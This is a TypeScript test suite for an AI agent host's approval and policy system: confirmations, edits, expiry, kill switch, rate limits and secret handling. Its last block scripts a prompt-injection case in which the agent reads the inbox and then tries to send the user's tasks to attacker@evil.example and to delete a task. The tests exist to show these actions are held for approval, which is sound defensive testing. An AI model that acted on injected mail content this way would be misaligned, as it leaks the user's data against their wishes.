import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { DATABASE_FILE } from '../../electron/host/create-host';
import { Store } from '../../electron/store/store';
import { SWITCHED_OFF_MESSAGE, type ApprovalsChangedEvent, type RunResponse } from '../../shared/contract';
import { call, say, ScriptedModel } from '../support/scripted-model';
import { collect, openHost, type HostFixture } from '../support/host-fixture';
import { syntheticMailTools } from '../support/synthetic-tools';

let fixture: HostFixture | undefined;
afterEach(async () => {
  await fixture?.close();
  fixture = undefined;
});

const sure = {
  intent: 'do what the user asked',
  reasoning: 'the user asked',
  confidence: 0.95,
  assumptions: [],
};
const addMilk = (): ReturnType<typeof call> => call('add_task', { description: 'Buy milk', ...sure });

/** A clock the test moves by hand. */
function manualClock(start = '2026-11-21T12:00:00.000Z'): { now: () => Date; advance: (ms: number) => void } {
  let time = Date.parse(start);
  return { now: () => new Date((time += 1)), advance: (ms) => (time += ms) };
}

async function start(
  model: ScriptedModel,
  options: Parameters<typeof openHost>[1] = {},
): Promise<HostFixture> {
  fixture = await openHost(model, options);
  return fixture;
}

function approvalOf(response: RunResponse): string {
  expect(response).toMatchObject({ status: 'awaiting_confirmation', mode: 'approval_required' });
  if (!response.approval) throw new Error('no approval in the response');
  return response.approval.id;
}

describe('approval workflow', () => {
  it('keeps Deputy, not the person, as who turned down what an MCP client that went away was waiting for', async () => {
    const model = new ScriptedModel(addMilk(), say('Left it.'));
    const { host } = await start(model);
    const paused = await host.runToEnd({ prompt: 'Add milk' });
    const approvalId = approvalOf(paused);
    host.approvals.rejectWaitingIn(paused.threadId, 'The MCP client that asked for this stopped waiting.');
    const { approvals } = await host.invoke('approval.list', { status: 'all' });
    expect(approvals.find((approval) => approval.id === approvalId)).toMatchObject({
      status: 'rejected',
      decisionNote: 'The MCP client that asked for this stopped waiting.',
      decidedBy: 'deputy',
    });
  });

  it('pauses a supervised side effect, then approve runs exactly those arguments once and continues the same run', async () => {
    const model = new ScriptedModel(addMilk(), say('Added it.'));
    const { host } = await start(model);
    const paused = await host.runToEnd({ prompt: 'Add milk' });
    const approvalId = approvalOf(paused);
    expect(paused.approval).toMatchObject({ tool: 'add_task', preview: expect.stringContaining('Buy milk') });
    expect(paused.approval?.reason).toContain('Supervised');
    expect(await host.invoke('approval.list', {})).toMatchObject({
      approvals: [{ id: approvalId, status: 'pending' }],
    });
    const [pending] = (await host.invoke('approval.list', {})).approvals;
    expect(pending).toMatchObject({ confidence: 0.95, intent: sure.intent, risk: 'low', level: 'confirm' });
    expect(pending?.args).toEqual({ description: 'Buy milk' });
    // The conversation's cards: a waiting one can be edited, so it comes with the tool's schema; a decided one not.
    const cards = async () =>
      (await host.invoke('thread.get', { threadId: paused.threadId })).approvals ?? [];
    expect((await cards())[0]?.argsSchema).toMatchObject({ properties: { description: expect.any(Object) } });

    const done = await host.invoke('approval.decide', { approvalId, decision: 'approve' });
    expect(await cards()).toMatchObject([{ id: approvalId, status: 'approved' }]);
    expect((await cards())[0]?.argsSchema).toEqual({});
    expect(done).toMatchObject({
      status: 'completed',
      runId: paused.runId,
      summary: 'Added it.',
      tool: 'add_task',
    });
    const tasks = await listTasks();
    expect(tasks).toEqual(['Buy milk']);
    await expect(host.invoke('approval.decide', { approvalId, decision: 'approve' })).rejects.toMatchObject({
      code: 'approval_decided',
    });
    await expect(host.invoke('approval.decide', { approvalId, decision: 'reject' })).rejects.toMatchObject({
      code: 'approval_decided',
    });
    expect(await listTasks()).toEqual(['Buy milk']);
    expect(model.requests[1]?.messages.at(-1)?.parts[0]).toMatchObject({ kind: 'result', name: 'add_task' });
  });

  it('runs exactly once when two approvals of the same call race', async () => {
    const { host } = await start(new ScriptedModel(addMilk(), say('Added.')));
    const approvalId = approvalOf(await host.runToEnd({ prompt: 'Add milk' }));
    const outcomes = await Promise.allSettled([
      host.invoke('approval.decide', { approvalId, decision: 'approve' }),
      host.invoke('approval.decide', { approvalId, decision: 'approve' }),
    ]);
    expect(outcomes.map((o) => o.status).sort()).toEqual(['fulfilled', 'rejected']);
    expect(await listTasks()).toEqual(['Buy milk']);
  });

  it('reject tells the model, with the reason, and the run goes on', async () => {
    const model = new ScriptedModel(addMilk(), say('Understood, I did not add it.'));
    const { host } = await start(model);
    const paused = await host.runToEnd({ prompt: 'Add milk' });
    const done = await host.invoke('approval.decide', {
      approvalId: approvalOf(paused),
      decision: 'reject',
      reason: 'I already have milk',
    });
    expect(done).toMatchObject({ status: 'completed', summary: 'Understood, I did not add it.' });
    const fed = model.requests[1]?.messages.at(-1)?.parts[0];
    expect(fed).toMatchObject({ kind: 'result', result: { error: { code: 'rejected_by_user' } } });
    expect(JSON.stringify(fed)).toContain('I already have milk');
    expect(await listTasks()).toEqual([]);
    const thread = await host.invoke('thread.get', { threadId: paused.threadId });
    expect(thread.actions.map((a) => a.state)).toEqual(['rejected']);
    expect(thread.actions[0]?.policy).toMatchObject({
      decision: 'require_approval',
      rule: 'trust:supervised',
    });
  });

  it('edit and approve validates the new arguments, re-fingerprints them and runs those', async () => {
    const { host } = await start(new ScriptedModel(addMilk(), say('Added.')));
    const approvalId = approvalOf(await host.runToEnd({ prompt: 'Add milk' }));
    const before = (await host.invoke('approval.list', {})).approvals[0]?.fingerprint;
    await expect(
      host.invoke('approval.edit', { approvalId, args: { description: 'Buy oat milk', due: 'soon' } }),
    ).rejects.toMatchObject({ code: 'invalid_input', message: expect.stringContaining('due') });
    const done = await host.invoke('approval.edit', { approvalId, args: { description: 'Buy oat milk' } });
    expect(done).toMatchObject({ status: 'completed', toolArgs: { description: 'Buy oat milk' } });
    expect(await listTasks()).toEqual(['Buy oat milk']);
    const after = (await host.invoke('approval.list', { status: 'all' })).approvals[0];
    expect(after).toMatchObject({
      status: 'approved',
      decisionNote: 'edited',
      args: { description: 'Buy oat milk' },
    });
    expect(after?.fingerprint).not.toBe(before);
  });

  it('expires: the run ends cleanly with a message, and a late approval is refused', async () => {
    const clock = manualClock();
    const { host } = await start(new ScriptedModel(addMilk()), { now: clock.now });
    await host.invoke('settings.set', { approvalExpiryMinutes: 5 });
    const paused = await host.runToEnd({ prompt: 'Add milk' });
    const approvalId = approvalOf(paused);
    const events = collect(host, paused.runId);
    clock.advance(5 * 60_000 + 1);
    host.sweepExpiredApprovals();
    const result = events.filter((e) => e.type === 'result').at(-1);
    expect(result).toMatchObject({
      result: { status: 'failed', summary: expect.stringContaining('expired') },
    });
    await expect(host.invoke('approval.decide', { approvalId, decision: 'approve' })).rejects.toMatchObject({
      code: 'approval_expired',
    });
    expect(await listTasks()).toEqual([]);
    expect((await host.invoke('thread.get', { threadId: paused.threadId })).runs[0]).toMatchObject({
      status: 'failed',
      errorCode: 'approval_expired',
    });
  });

  it('survives a restart of the host between the request and the decision', async () => {
    const first = await openHost(new ScriptedModel(addMilk()));
    const paused = await first.host.runToEnd({ prompt: 'Add milk' });
    const approvalId = approvalOf(paused);
    await first.stop();

    const model = new ScriptedModel(say('Added after the restart.'));
    fixture = await openHost(model, { dataDir: first.dataDir });
    const { host } = fixture;
    expect((await host.invoke('approval.list', {})).approvals.map((a) => a.id)).toEqual([approvalId]);
    const done = await host.invoke('approval.decide', { approvalId, decision: 'approve' });
    expect(done).toMatchObject({
      status: 'completed',
      runId: paused.runId,
      summary: 'Added after the restart.',
    });
    expect(await listTasks()).toEqual(['Buy milk']);
    // The model continued from the stored state: it saw the prompt, its own call and the result.
    expect(model.requests[0]?.messages.map((m) => m.parts[0]?.kind)).toEqual(['text', 'call', 'result']);
    await expect(host.invoke('approval.decide', { approvalId, decision: 'approve' })).rejects.toMatchObject({
      code: 'approval_decided',
    });
  });

  it('a new message auto-rejects what was waiting, and the model sees the call answered', async () => {
    const model = new ScriptedModel(addMilk(), say('OK, forget the milk.'));
    const { host } = await start(model);
    const paused = await host.runToEnd({ prompt: 'Add milk' });
    const approvalId = approvalOf(paused);
    const next = await host.runToEnd({ prompt: 'Actually, never mind', threadId: paused.threadId });
    expect(next.status).toBe('completed');
    expect((await host.invoke('approval.list', { status: 'all' })).approvals[0]).toMatchObject({
      id: approvalId,
      status: 'rejected',
    });
    const seen = model.requests[1]?.messages ?? [];
    expect(seen.map((m) => `${m.role}:${m.parts.map((p) => p.kind).join('+')}`)).toEqual([
      'user:text',
      'model:call',
      'user:result',
      'user:text',
    ]);
    expect(JSON.stringify(seen[2])).toContain('not_run');
    expect(await listTasks()).toEqual([]);
    expect((await host.invoke('thread.get', { threadId: paused.threadId })).runs[0]?.status).toBe('failed');
  });

  it('streams approvals.changed: the pending list on subscribe, then each change', async () => {
    const { host } = await start(new ScriptedModel(addMilk(), say('Done.')));
    const seen: ApprovalsChangedEvent[] = [];
    host.subscribe('approvals.changed', {}, (event) => seen.push(event));
    expect(seen[0]?.pending).toEqual([]);
    const approvalId = approvalOf(await host.runToEnd({ prompt: 'Add milk' }));
    expect(seen.at(-1)?.pending.map((a) => a.id)).toEqual([approvalId]);
    await host.invoke('approval.decide', { approvalId, decision: 'approve' });
    expect(seen.at(-1)).toMatchObject({ pending: [], changed: { id: approvalId, status: 'approved' } });
  });

  it('runs a mail that merely looks like it holds a token exactly as approved, and keeps a real key out', async () => {
    const sent: { to: string[]; body: string }[] = [];
    const lookalike = 'Reset link: token=abcdefghijklmnopqrstuvwxyz0123, valid one hour.';
    const model = new ScriptedModel(
      call('send_message', { to: ['sam@partner.io'], body: lookalike, ...sure }),
      say('Sent.'),
      call('send_message', {
        to: ['sam@partner.io'],
        body: 'My key is AIzaSy-approvals-test-real-key-000000',
        ...sure,
      }),
      say('Sent.'),
    );
    const { host } = await start(model, { tools: syntheticMailTools(sent) });
    const first = await host.invoke('approval.decide', {
      approvalId: approvalOf(await host.runToEnd({ prompt: 'Forward the reset link to Sam' })),
      decision: 'approve',
    });
    expect(first.status).toBe('completed');
    expect(sent).toEqual([{ to: ['sam@partner.io'], body: lookalike }]);

    // A secret the vault holds never lands in a row, so an approval that would send it cannot run.
    host.vault.set('gemini.apiKey', 'AIzaSy-approvals-test-real-key-000000');
    const second = await host.invoke('approval.decide', {
      approvalId: approvalOf(await host.runToEnd({ prompt: 'Send Sam my key' })),
      decision: 'approve',
    });
    expect(second.status).toBe('completed');
    expect(sent).toHaveLength(1);
  });

  it('"always allow" creates only a scope the approval offered', async () => {
    const sent: { to: string[]; body: string }[] = [];
    const model = new ScriptedModel(
      call('send_message', { to: ['sam@partner.io'], body: 'Hi', ...sure }),
      say('Sent.'),
      call('send_message', { to: ['sam@partner.io'], body: 'Again', ...sure }),
      say('Sent again.'),
    );
    const { host } = await start(model, { tools: syntheticMailTools(sent) });
    await host.invoke('settings.set', { trustLevel: 'autonomous', autonomy: { 'email.send': 'confirm' } });
    const approvalId = approvalOf(await host.runToEnd({ prompt: 'Mail Sam' }));
    await expect(
      host.invoke('approval.decide', {
        approvalId,
        decision: 'approve',
        alwaysAllow: { field: 'recipients', pattern: '*' },
      }),
    ).rejects.toMatchObject({ code: 'invalid_input' });
    await host.invoke('approval.decide', {
      approvalId,
      decision: 'approve',
      alwaysAllow: { field: 'recipients', pattern: 'sam@partner.io' },
    });
    const settings = await host.invoke('settings.get', {});
    expect(settings.rules).toEqual([
      expect.objectContaining({
        tool: 'send_message',
        field: 'recipients',
        pattern: 'sam@partner.io',
        effect: 'allow',
      }),
    ]);
    const second = await host.runToEnd({ prompt: 'Mail Sam again' });
    expect(second).toMatchObject({ status: 'completed', summary: 'Sent again.' });
    expect(sent.map((m) => m.body)).toEqual(['Hi', 'Again']);
  });
});

describe('policy in the run', () => {
  it('the kill switch denies side effects and tells the model', async () => {
    const model = new ScriptedModel(addMilk(), say('I cannot add tasks right now.'));
    const { host } = await start(model, { env: { AGENT_SIDE_EFFECTS_ENABLED: 'false' } });
    await host.invoke('settings.set', { trustLevel: 'autonomous' });
    const done = await host.runToEnd({ prompt: 'Add milk' });
    expect(done.status).toBe('completed');
    // Told in the words the person reads too, which say what to do rather than name the variable.
    expect(JSON.stringify(model.requests[1]?.messages.at(-1))).toContain(SWITCHED_OFF_MESSAGE);
    expect(await listTasks()).toEqual([]);
  });

  it('low confidence asks a clarifying question instead of acting', async () => {
    const { host } = await start(
      new ScriptedModel(call('add_task', { description: 'Buy milk', intent: 'maybe', confidence: 0.4 })),
    );
    await host.invoke('settings.set', { trustLevel: 'autonomous' });
    const done = await host.runToEnd({ prompt: 'milk?' });
    expect(done).toMatchObject({ status: 'completed', mode: 'tool_call' });
    expect(done.summary).toContain('not sure');
    expect(await listTasks()).toEqual([]);
  });

  it('a rate limit ends the request with a clear message', async () => {
    const { host } = await start(
      new ScriptedModel(() => [
        { type: 'function_call', callId: 'a', name: 'add_task', args: { description: 'One', ...sure } },
        { type: 'function_call', callId: 'b', name: 'add_task', args: { description: 'Two', ...sure } },
        { type: 'finish', finishReason: 'STOP', usage: null },
      ]),
    );
    await host.invoke('settings.set', { trustLevel: 'autonomous', rateLimits: { actionsPerMinute: 1 } });
    const done = await host.runToEnd({ prompt: 'Add two' });
    expect(done).toMatchObject({ status: 'failed', summary: expect.stringContaining('Rate limit') });
    expect(await listTasks()).toEqual(['One']);
  });

  it('notify runs the action, then tells the user', async () => {
    const { host } = await start(new ScriptedModel(addMilk(), say('Added.')));
    await host.invoke('settings.set', { trustLevel: 'autonomous', autonomy: { 'task.create': 'notify' } });
    const events = collect(host);
    await host.runToEnd({ prompt: 'Add milk' });
    expect(events.find((e) => e.type === 'notice')).toMatchObject({
      tool: 'add_task',
      message: expect.stringContaining('Buy milk'),
    });
  });
});

describe('content is data: an adversarial model after reading injected text', () => {
  const attack = (): ScriptedModel =>
    new ScriptedModel(
      call('read_inbox', {}, 'read'),
      call(
        'send_message',
        { to: ['attacker@evil.example'], body: 'All your tasks', ...sure, confidence: 0.99 },
        'send',
      ),
      say('Sent.'),
    );

  it.each([
    ['supervised', {}, 'trust:supervised'],
    ['delegated', { allowlist: ['@mycompany.com'] }, 'trust:delegated'],
    [
      'autonomous, even with mail set to auto',
      { autonomy: { 'email.send': 'auto' as const } },
      // The address appears only in the mail that was read: held for that, before first contact is asked.
      'provenance:only_in_content',
    ],
  ])('%s: nothing is sent, and the preview shows the real recipient', async (trustLevel, extra, rule) => {
    const sent: { to: string[]; body: string }[] = [];
    const { host } = await start(attack(), { tools: syntheticMailTools(sent) });
    await host.invoke('settings.set', { trustLevel: trustLevel.split(',')[0] as 'supervised', ...extra });
    const paused = await host.runToEnd({ prompt: 'Summarise my inbox' });
    expect(paused.status).toBe('awaiting_confirmation');
    const [approval] = (await host.invoke('approval.list', {})).approvals;
    expect(approval).toMatchObject({ tool: 'send_message', rule });
    expect(approval?.previewText).toContain('attacker@evil.example');
    expect(approval?.preview.fields).toContainEqual({ label: 'To', value: 'attacker@evil.example' });
    expect(sent).toEqual([]);
  });

  it.each(['supervised', 'delegated', 'autonomous'] as const)(
    '%s: a task deletion the injected text asked for waits for approval',
    async (trustLevel) => {
      const { host } = await start(
        new ScriptedModel(
          call('read_inbox', {}, 'read'),
          call('delete_task', { id: 'x', ...sure, confidence: 1 }, 'del'),
        ),
        { tools: syntheticMailTools([]) },
      );
      await host.invoke('settings.set', { trustLevel });
      const paused = await host.runToEnd({ prompt: 'Summarise my inbox' });
      expect(paused).toMatchObject({ status: 'awaiting_confirmation', tool: 'delete_task' });
    },
  );
});

/** Reads the task list straight from the host's database file, as another process would. */
async function listTasks(): Promise<string[]> {
  if (!fixture) throw new Error('no host');
  const store = Store.open(join(fixture.dataDir, DATABASE_FILE));
  try {
    return store.tasks.list({ status: 'all', limit: 100 }).map((task) => task.description);
  } finally {
    store.close();
  }
}
